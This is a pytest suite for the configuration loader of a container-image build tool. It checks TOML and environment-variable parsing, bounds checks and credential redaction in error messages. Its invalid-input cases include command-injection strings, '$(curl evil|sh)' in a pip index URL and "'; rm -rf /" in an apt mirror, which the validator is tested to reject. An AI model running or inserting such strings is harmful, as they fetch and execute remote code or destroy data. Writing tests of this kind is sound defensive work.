from pathlib import Path

import pytest

from imagectl.config import load_config
from imagectl.errors import ConfigError


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "imagectl.toml"
    path.write_text(text)
    return path


def test_no_configuration_is_valid(tmp_path):
    cfg = load_config(env={}, cwd=tmp_path)
    assert cfg.registry_url is None and cfg.mirrors == {} and cfg.source == "defaults"


def test_full_file_is_read_and_paths_resolve_against_it(tmp_path):
    (tmp_path / "mine").mkdir()
    (tmp_path / "ca.pem").write_text("x")
    write(tmp_path, """
[registry]
url = "registry.example.com:5000"
namespace = "ml"
insecure = true
[mirrors]
"docker.io" = "mirror.example.com/dockerhub"
[pip]
index_url = "https://pypi.example.com/whl/{cuda_tag}"
extra_index_urls = ["https://extra.example.com/simple"]
trusted_hosts = ["pypi.example.com"]
[apt]
mirror = "http://apt.example.com/ubuntu"
[build]
network = "host"
ca_bundle = "ca.pem"
args = { HTTP_PROXY = "http://proxy:3128" }
[paths]
matrices = ["mine"]
templates = ["mine"]
""")
    cfg = load_config(env={}, cwd=tmp_path)
    assert cfg.registry_url == "registry.example.com:5000" and cfg.namespace == "ml" and cfg.insecure
    assert cfg.mirrors == {"docker.io": "mirror.example.com/dockerhub"}
    assert cfg.pip_index_url.endswith("{cuda_tag}") and cfg.pip_trusted_hosts == ("pypi.example.com",)
    assert cfg.ca_bundle == tmp_path / "ca.pem" and cfg.matrix_dirs == (tmp_path / "mine",)
    assert cfg.build_network == "host" and cfg.build_args == {"HTTP_PROXY": "http://proxy:3128"}


def test_environment_overrides_single_keys(tmp_path):
    write(tmp_path, '[registry]\nurl = "a.example.com"\nnamespace = "ml"\n')
    env = {
        "IMAGECTL_REGISTRY_URL": "b.example.com:5000",
        "IMAGECTL_MIRRORS": "docker.io=m.example.com/hub",
        "IMAGECTL_PIP_EXTRA_INDEX_URLS": "https://x.example.com/simple, https://y.example.com/simple",
    }
    cfg = load_config(env=env, cwd=tmp_path)
    assert cfg.registry_url == "b.example.com:5000" and cfg.namespace == "ml"
    assert cfg.mirrors == {"docker.io": "m.example.com/hub"}
    assert len(cfg.pip_extra_index_urls) == 2


def test_imagectl_mirrors_replaces_the_whole_mirror_table(tmp_path):
    """IMAGECTL_MIRRORS is the mirror table, as the README says: the file's entry for the same registry does not win
    over it, and the file's entries for other registries are gone."""
    write(tmp_path, '[mirrors]\n"docker.io" = "file.example.com/hub"\n"ghcr.io" = "file.example.com/ghcr"\n')
    env = {"IMAGECTL_MIRRORS": "docker.io=env.example.com/hub"}
    assert load_config(env=env, cwd=tmp_path).mirrors == {"docker.io": "env.example.com/hub"}
    assert load_config(env={"IMAGECTL_MIRRORS": ""}, cwd=tmp_path).mirrors == {}
    assert load_config(env={}, cwd=tmp_path).mirrors == {"docker.io": "file.example.com/hub",
                                                          "ghcr.io": "file.example.com/ghcr"}


def test_config_flag_and_variable_name_the_file(tmp_path):
    other = tmp_path / "other.toml"
    other.write_text('[registry]\nnamespace = "team"\n')
    assert load_config(env={"IMAGECTL_CONFIG": str(other)}, cwd=tmp_path).namespace == "team"
    with pytest.raises(ConfigError, match="--config: configuration file nope.toml not found"):
        load_config("nope.toml", env={}, cwd=tmp_path)


@pytest.mark.parametrize(
    "text, message",
    [
        ("[registry\nurl=1", r"imagectl.toml:1: invalid TOML"),
        ("[registy]\nurl='x'", "unknown section \\[registy\\]"),
        ("[registry]\nhost='x'", "unknown key 'host' in \\[registry\\]"),
        ("[registry]\nurl='a b'", "\\[registry\\] url"),
        ("[pip]\nindex_url='http://x/$(curl evil|sh)'", "\\[pip\\] index_url"),
        ("[pip]\nindex_url='ftp://x/'", "not an http"),
        ("[apt]\nmirror=\"http://x/'; rm -rf /; '\"", "\\[apt\\] mirror"),
        ("[build]\nnetwork='overlay'", "not one of"),
        ("[build]\nargs={ 'A B' = 'x' }", "build arg"),
        ("[build]\nargs={ X = 'a\"b' }", "build arg X"),
        ("[mirrors]\n'docker.io' = 'Not A Ref'", "\\[mirrors\\] docker.io"),
        ("[paths]\nmatrices=['missing']", "is not a directory"),
        ("[registry]\ninsecure='yes'", "true or false"),
    ],
)
def test_bad_configuration_names_file_and_key(tmp_path, text, message):
    write(tmp_path, text)
    with pytest.raises(ConfigError, match=message):
        load_config(env={}, cwd=tmp_path)


def test_bad_environment_value_names_variable(tmp_path):
    with pytest.raises(ConfigError, match="IMAGECTL_BUILD_NETWORK"):
        load_config(env={"IMAGECTL_BUILD_NETWORK": "weird"}, cwd=tmp_path)


def test_pip_index_urls_may_carry_credentials(tmp_path):
    write(tmp_path, '[pip]\nindex_url = "https://user:t%40ken123@pypi.example.com/whl/{cuda_tag}"\n'
                    'extra_index_urls = ["https://__token__:abc-DEF_123@extra.example.com/simple"]\n'
                    '[build]\nargs = { HTTP_PROXY = "http://proxy:3128" }\n')
    cfg = load_config(env={}, cwd=tmp_path)
    assert cfg.pip_index_url == "https://user:t%40ken123@pypi.example.com/whl/{cuda_tag}"
    assert cfg.secret_values == ("abc-DEF_123", "http://proxy:3128", "t@ken123")


@pytest.mark.parametrize("text, key", [
    ('[apt]\nmirror = "http://user:Tok3n@apt.example.com/ubuntu"', "[apt] mirror"),  # it reaches a RUN line
    ('[pip]\nindex_url = "https://user:Tok3n\'@pypi.example.com/simple"', "[pip] index_url"),
    ('[pip]\nindex_url = "https://user:Tok3n%20x@pypi.example.com/simple"', "[pip] index_url"),  # no netrc spaces
    ('[pip]\nindex_url = "https://user:Tok3n@pypi.example.com/simple$x"', "[pip] index_url"),
    ('[pip]\nextra_index_urls = "https://user:Tok3n@pypi.example.com/simple"', "[pip] extra_index_urls"),
])
def test_refused_urls_never_show_their_credentials(tmp_path, text, key):
    write(tmp_path, text)
    with pytest.raises(ConfigError) as caught:
        load_config(env={}, cwd=tmp_path)
    assert key in str(caught.value) and "***@" in str(caught.value) and "Tok3n" not in str(caught.value)


def test_bad_build_arg_value_is_never_shown(tmp_path):
    write(tmp_path, '[build]\nargs = { TOKEN = "s3cr3t\'value" }\n')
    with pytest.raises(ConfigError, match="build arg TOKEN: the value \\(not shown\\)") as caught:
        load_config(env={}, cwd=tmp_path)
    assert "s3cr3t" not in str(caught.value)
    with pytest.raises(ConfigError) as caught:
        load_config(env={"IMAGECTL_BUILD_ARGS": "TOKEN:s3cr3tvalue"}, cwd=tmp_path)
    assert "IMAGECTL_BUILD_ARGS" in str(caught.value) and "s3cr3t" not in str(caught.value)


@pytest.mark.parametrize("text, value", [
    ("1", True), ("true", True), ("YES", True), (" on ", True), ("0", False), ("false", False), ("No", False),
    ("off", False),
])
def test_boolean_variables_take_the_usual_words(tmp_path, text, value):
    assert load_config(env={"IMAGECTL_REGISTRY_INSECURE": text}, cwd=tmp_path).insecure is value


@pytest.mark.parametrize("text", ["maybe", "", "2", "tru", "y"])
def test_a_boolean_variable_that_is_no_boolean_is_refused(tmp_path, text):
    with pytest.raises(ConfigError, match=r"IMAGECTL_REGISTRY_INSECURE: expected true or false .* got") as caught:
        load_config(env={"IMAGECTL_REGISTRY_INSECURE": text}, cwd=tmp_path)
    assert caught.value.exit_code == 2


@pytest.mark.parametrize("env, message", [
    ({"IMAGECTL_TAGS_PRUNE_MIN_AGE_DAYS": "99999999999"}, "IMAGECTL_TAGS_PRUNE_MIN_AGE_DAYS: expected a whole number "
                                                          "from 0 to 36500, got 99999999999"),
    ({"IMAGECTL_TAGS_PRUNE_MIN_AGE_DAYS": "-1"}, "from 0 to 36500, got -1"),
    ({"IMAGECTL_TAGS_PRUNE_MIN_AGE_DAYS": "²"}, "got '²'"),
    ({"IMAGECTL_TAGS_PRUNE_MIN_AGE_DAYS": "seven"}, "got 'seven'"),
    ({"IMAGECTL_TAGS_PRUNE_MIN_AGE_DAYS": "9" * 5000}, r"got '9999.*\.\.\.$"),
])
def test_prune_min_age_days_is_bounded_in_variables(tmp_path, env, message):
    with pytest.raises(ConfigError, match=message):
        load_config(env=env, cwd=tmp_path)


def test_prune_min_age_days_is_bounded_in_the_file(tmp_path):
    write(tmp_path, "[tags]\nprune_min_age_days = 99999999999\n")
    with pytest.raises(ConfigError, match=r"imagectl.toml: \[tags\] prune_min_age_days: .* from 0 to 36500"):
        load_config(env={}, cwd=tmp_path)
    write(tmp_path, "[tags]\nprune_min_age_days = 36500\n")
    assert load_config(env={}, cwd=tmp_path).prune_min_age_days == 36500
    assert load_config(env={"IMAGECTL_TAGS_PRUNE_MIN_AGE_DAYS": " 3 "}, cwd=tmp_path).prune_min_age_days == 3


def test_a_directory_as_configuration_says_it_is_a_directory(tmp_path):
    (tmp_path / "conf").mkdir()
    with pytest.raises(ConfigError, match="--config: conf is a directory, not a configuration file"):
        load_config("conf", env={}, cwd=tmp_path)
    with pytest.raises(ConfigError, match="IMAGECTL_CONFIG: conf is a directory"):
        load_config(env={"IMAGECTL_CONFIG": "conf"}, cwd=tmp_path)
    (tmp_path / "imagectl.toml").mkdir()
    with pytest.raises(ConfigError, match=r"\./imagectl.toml: .*imagectl.toml is a directory"):
        load_config(env={}, cwd=tmp_path)


def test_deeply_nested_configuration_is_an_error_with_a_line(tmp_path):
    write(tmp_path, "[build]\nargs = " + "{a = " * 2000 + "1" + "}" * 2000 + "\n")
    with pytest.raises(ConfigError, match=r"imagectl.toml:2: invalid TOML: arrays or tables nested too deeply"):
        load_config(env={}, cwd=tmp_path)


# ---- [registry] timeout: the deadline of one registry request (issue 9, item 9)

def test_registry_timeout_is_read_from_the_file_and_the_environment(tmp_path):
    assert load_config(env={}, cwd=tmp_path).registry_timeout is None  # the registry client's default
    write(tmp_path, "[registry]\ntimeout = 7.5\n")
    assert load_config(env={}, cwd=tmp_path).registry_timeout == 7.5
    assert load_config(env={"IMAGECTL_REGISTRY_TIMEOUT": " 12 "}, cwd=tmp_path).registry_timeout == 12.0
    write(tmp_path, "[registry]\ntimeout = 3600\n")
    assert load_config(env={}, cwd=tmp_path).registry_timeout == 3600.0


@pytest.mark.parametrize("value", ["0", "-1", "true", '"ten"', "3601", "inf", "nan", "[5]"])
def test_a_registry_timeout_that_is_no_positive_bounded_number_is_refused_in_the_file(tmp_path, value):
    write(tmp_path, f"[registry]\ntimeout = {value}\n")
    with pytest.raises(ConfigError, match=r"imagectl.toml: \[registry\] timeout: expected a number of seconds > 0 "
                                          r"and <= 3600, got") as caught:
        load_config(env={}, cwd=tmp_path)
    assert caught.value.exit_code == 2 and "\n" not in str(caught.value)


@pytest.mark.parametrize("text", ["0", "-3", "ten", "", "nan", "inf", "1e9", "5s"])
def test_a_registry_timeout_variable_that_is_no_positive_bounded_number_is_refused(tmp_path, text):
    with pytest.raises(ConfigError, match=r"IMAGECTL_REGISTRY_TIMEOUT: expected a number of seconds > 0 and <= 3600"):
        load_config(env={"IMAGECTL_REGISTRY_TIMEOUT": text}, cwd=tmp_path)


def test_the_registry_timeout_reaches_the_registry_client(tmp_path, monkeypatch):
    import imagectl.registry.access as access
    from imagectl.registry.client import DEFAULT_TIMEOUT_S

    asked = []
    monkeypatch.setattr(access, "connect", lambda host, **options: asked.append((host, options)))
    config = load_config(env={"IMAGECTL_REGISTRY_TIMEOUT": "9"}, cwd=tmp_path)
    access.client_for("r.example:5000", config.insecure_hosts, config.registry_timeout)
    access.client_for("127.0.0.1:5000")
    assert asked == [("r.example:5000", {"insecure": False, "timeout": 9.0}),
                     ("127.0.0.1:5000", {"insecure": True, "timeout": None})]
    assert DEFAULT_TIMEOUT_S <= 50  # by default a hung registry fails a command within a minute


# ---- [registry] compression: of the layers a push writes (issue 19, item 6)

def test_registry_compression_is_gzip_unless_zstd_is_asked_for(tmp_path):
    assert load_config(env={}, cwd=tmp_path).registry_compression == "gzip"  # every runtime reads gzip layers
    write(tmp_path, '[registry]\ncompression = "zstd"\n')
    assert load_config(env={}, cwd=tmp_path).registry_compression == "zstd"
    assert load_config(env={"IMAGECTL_REGISTRY_COMPRESSION": "gzip"}, cwd=tmp_path).registry_compression == "gzip"


@pytest.mark.parametrize("value", ['"lz4"', '"ZSTD"', '""', "true", "1", '["zstd"]'])
def test_any_other_registry_compression_is_refused_with_one_line(tmp_path, value):
    write(tmp_path, f"[registry]\ncompression = {value}\n")
    refused = r"imagectl.toml: \[registry\] compression: .* is not one of gzip, zstd"
    with pytest.raises(ConfigError, match=refused) as caught:
        load_config(env={}, cwd=tmp_path)
    assert caught.value.exit_code == 2 and "\n" not in str(caught.value)
